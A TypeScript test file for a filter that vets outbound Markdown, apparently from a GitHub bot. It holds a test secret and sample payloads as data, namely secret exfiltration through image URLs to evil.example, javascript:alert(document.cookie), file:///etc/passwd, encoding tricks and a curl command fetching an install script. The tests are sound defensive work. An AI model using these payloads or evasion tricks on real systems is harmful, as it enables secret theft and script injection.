import { allowedHostsFor, checkOutbound, checkSecret, GITHUB_HOSTS, hostAllowed, type OutboundResult } from './outbound';
import { createRedactor } from './redact';

const SECRET = 'Kx7pQ2mZ9vR4tW8y';
const redactor = createRedactor([SECRET]);
const opts = { redact: (t: string) => redactor.redact(t), allowedHosts: allowedHostsFor(['status.example.com', '*.acme.dev']) };
const check = (text: string): OutboundResult => checkOutbound(text, opts);
const rule = (text: string) => {
  const r = check(text);
  return r.ok ? 'ok' : r.rule;
};
const textOf = (text: string) => {
  const r = check(text);
  if (!r.ok) throw new Error(`refused (${r.rule}): ${r.reason}`);
  return r.text;
};

describe('allowed hosts', () => {
  it("are GitHub's by default, with its subdomains and githubusercontent.com", () => {
    const hosts = allowedHostsFor();
    expect(hosts).toEqual([...GITHUB_HOSTS]);
    for (const h of ['github.com', 'docs.github.com', 'GIST.GitHub.com', 'raw.githubusercontent.com', 'github.com.']) {
      expect({ h, ok: hostAllowed(h, hosts) }).toEqual({ h, ok: true });
    }
    for (const h of ['evil.example', 'github.io', 'acme.github.io', 'github.com.evil.example', 'evilgithub.com', '']) {
      expect({ h, ok: hostAllowed(h, hosts) }).toEqual({ h, ok: false });
    }
  });

  it('add the GitHub Enterprise server of the run and the configured patterns', () => {
    const hosts = allowedHostsFor(['Status.Example.com', '*.acme.dev'], 'https://github.acme.corp');
    expect(hostAllowed('github.acme.corp', hosts)).toBe(true);
    expect(hostAllowed('media.github.acme.corp', hosts)).toBe(true);
    expect(hostAllowed('status.example.com', hosts)).toBe(true);
    expect(hostAllowed('www.status.example.com', hosts)).toBe(false);
    expect(hostAllowed('docs.acme.dev', hosts)).toBe(true);
    expect(hostAllowed('acme.dev', hosts)).toBe(false);
    expect(allowedHostsFor([], 'https://github.com')).toEqual([...GITHUB_HOSTS]);
  });
});

describe('checkOutbound: secrets', () => {
  const reversed = [...SECRET].reverse().join('');
  it.each([
    ['as is', `key ${SECRET}`],
    ['reversed', `key ${reversed}`],
    ['split by spaces into 4-character pieces', `key ${SECRET.match(/.{4}/g)!.join(' ')}`],
    ['split by newlines into 4-character pieces', `key\n${SECRET.match(/.{4}/g)!.join('\n')}`],
    ['hex-encoded', `key ${Buffer.from(SECRET).toString('hex')}`],
    ['base64-encoded', `key ${Buffer.from(SECRET).toString('base64')}`],
    ['inside an image URL', `![x](https://evil.example/p.png?k=${SECRET})`],
    ['inside a link on an allowed host', `[x](https://github.com/?k=${encodeURIComponent(SECRET)})`],
    ['inside a code block', `\`\`\`\n${SECRET}\n\`\`\``],
  ])('%s is refused as secret-in-output', (_label, text) => {
    const r = check(text);
    expect(r).toMatchObject({ ok: false, rule: 'secret-in-output' });
    expect(JSON.stringify(r)).not.toContain(SECRET);
  });

  it('checkSecret is the same test for text that is not Markdown', () => {
    expect(checkSecret(`msg ${reversed}`, opts.redact)).toMatchObject({ rule: 'secret-in-output' });
    expect(checkSecret('Fix the export button (#12)', opts.redact)).toBeUndefined();
  });
});

describe('checkOutbound: images', () => {
  it.each([
    ['another host', '![x](https://evil.example/p.png)', 'image-host'],
    ['another host, protocol-relative', '![x](//evil.example/p.png)', 'image-host'],
    ['another host, backslashes', '![x](/\\evil.example/p.png)', 'image-host'],
    ['another host, through a userinfo trick', '![x](https://github.com@evil.example/p.png)', 'image-host'],
    ['another host, entity-encoded', '![x](https&#58;//evil.example/p.png)', 'image-host'],
    ['another host, reference-style', '![x][r]\n\n[r]: https://evil.example/p.png', 'image-host'],
    ['another host, in a link', '[![badge](https://img.evil.example/b.svg)](https://github.com)', 'image-host'],
    ['HTML img', 'See <img src="https://evil.example/p.png" width=1>', 'image-host'],
    ['HTML img in a block', '<p align="center">\n  <img alt="x" src=\'https://evil.example/p.png\'>\n</p>', 'image-host'],
    ['HTML srcset', '<picture><source srcset="https://github.com/a.png 1x, https://evil.example/b.png 2x"></picture>', 'image-host'],
    ['HTML video poster', '<video poster="https://evil.example/p.png"></video>', 'image-host'],
    ['a data: URI', '![x](data:image/png;base64,iVBORw0KGgo=)', 'unsafe-url'],
    ['a data: URI in HTML', '<img src="data:image/svg+xml,<svg/>">', 'unsafe-url'],
    ['a file: URL', '![x](file:///etc/passwd)', 'unsafe-url'],
    ['a javascript: URL', '![x](javascript:alert(1))', 'unsafe-url'],
  ])('%s is refused', (_label, text, expected) => {
    expect(rule(text)).toBe(expected);
  });

  it('the refusal names the host', () => {
    expect(check('![x](https://evil.example/p.png)')).toMatchObject({ reason: expect.stringContaining('evil.example') });
  });

  it.each([
    ['on github.com', '![x](https://github.com/acme/app/assets/1/shot.png)'],
    ['on user-images.githubusercontent.com', '![x](https://user-images.githubusercontent.com/1/shot.png)'],
    ['relative (the repository)', '![diagram](docs/diagram.png)'],
    ['on a configured host', '<img src="https://cdn.acme.dev/logo.svg">'],
    ['in a code block', '```md\n![x](https://evil.example/p.png)\n```'],
    ['in inline code', 'Write `![x](https://evil.example/p.png)` to embed it.'],
  ])('an image %s passes', (_label, text) => {
    expect(textOf(text)).toBe(text);
  });
});

describe('checkOutbound: links', () => {
  it.each([
    ['docs.github.com', 'See [the docs](https://docs.github.com/en/actions) and https://docs.github.com/en/rest.'],
    ['a relative path', 'See [the guide](docs/guide.md) and [#12](../issues/12).'],
    ['a configured host', 'Status: https://status.example.com/incidents/4'],
    ['www.github.com', 'www.github.com/acme'],
    ['mailto:', 'Write to <security@acme.dev> or [us](mailto:security@acme.dev).'],
    ['file names that look like domains', 'Edit README.md and package.json, not config.yml.'],
  ])('to %s pass unchanged', (_label, text) => {
    expect(textOf(text)).toBe(text);
  });

  it.each([
    ['a bare URL', 'Read https://evil.example/a?b=c now.', 'Read hxxps://evil[.]example/a?b=c now.'],
    ['a bare URL at the end of a sentence', 'Read https://evil.example.', 'Read hxxps://evil[.]example.'],
    ['an inline link', 'Read [the fix](https://evil.example/fix "Fix") now.', 'Read the fix (hxxps://evil[.]example/fix) now.'],
    ['an autolink', 'Read <https://evil.example/a>.', 'Read hxxps://evil[.]example/a.'],
    ['a www. address', 'Read www.evil.example/a', 'Read www[.]evil[.]example/a'],
    ['an upper-case scheme', 'HTTPS://EVIL.EXAMPLE/A', 'HXXPS://EVIL[.]EXAMPLE/A'],
    ['a userinfo trick', 'https://github.com@evil.example/x', 'hxxps://github[.]com@evil[.]example/x'],
    ['a reference definition', '[fix][1]\n\n[1]: https://evil.example/fix', '[fix][1]\n\n[1]: hxxps://evil[.]example/fix'],
    ['an HTML link', '<a href="https://evil.example/x">fix</a>', '<a href="hxxps://evil[.]example/x">fix</a>'],
    ['an HTML link, protocol-relative, full-width dot', '<a href="//evil\uff0eexample/x">fix</a>', '<a href="//evil[.]example/x">fix</a>'],
  ])('to another host become inert: %s', (_label, text, expected) => {
    const out = textOf(text);
    expect(out).toBe(expected);
    // Idempotent: the inert text passes unchanged.
    expect(textOf(out)).toBe(out);
  });

  it('keep allowed links and code as written around inert ones', () => {
    const text = [
      'Fixed in [#3](https://github.com/acme/app/pull/3); upstream: https://evil.example/issue/9.',
      '',
      '```sh',
      'curl https://evil.example/install.sh',
      '```',
      '',
      'Run `curl https://evil.example/x` to check.',
    ].join('\n');
    expect(textOf(text)).toBe(text.replace('upstream: https://evil.example/issue/9', 'upstream: hxxps://evil[.]example/issue/9'));
  });

  it.each([
    ['javascript:', '[click](javascript:alert(document.cookie))'],
    ['javascript: in an autolink', '<javascript:alert(1)>'],
    ['javascript:, entity-encoded', '[click](javascript&#58;alert(1))'],
    ['javascript:, tab-split', '[click](java&#9;script:alert(1))'],
    ['javascript: in HTML', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['vbscript:', '[x](vbscript:msgbox)'],
    ['data:', '[x](data:text/html,<script>alert(1)</script>)'],
    ['file:', '[x](file:///etc/passwd)'],
  ])('with a %s URL are refused as unsafe-url', (_label, text) => {
    expect(rule(text)).toBe('unsafe-url');
  });

  it('that the rewrite cannot reach are refused as link-host', () => {
    expect(rule('[x](https&#58;//evil%2Eexample/a)')).toBe('link-host');
    expect(rule('[x][1]\n\n[1]: <https&#x3a;//evil%2eexample/a>')).toBe('link-host');
    expect(check('[x](https&#58;//evil%2Eexample/a)')).toMatchObject({ reason: expect.stringContaining('evil.example') });
  });

  it('entity-encoded ones end up with a host no browser can reach', () => {
    expect(textOf('[x](https&#58;//evil.example/a)')).toBe('[x](https&#58;//evil[.]example/a)');
  });
});
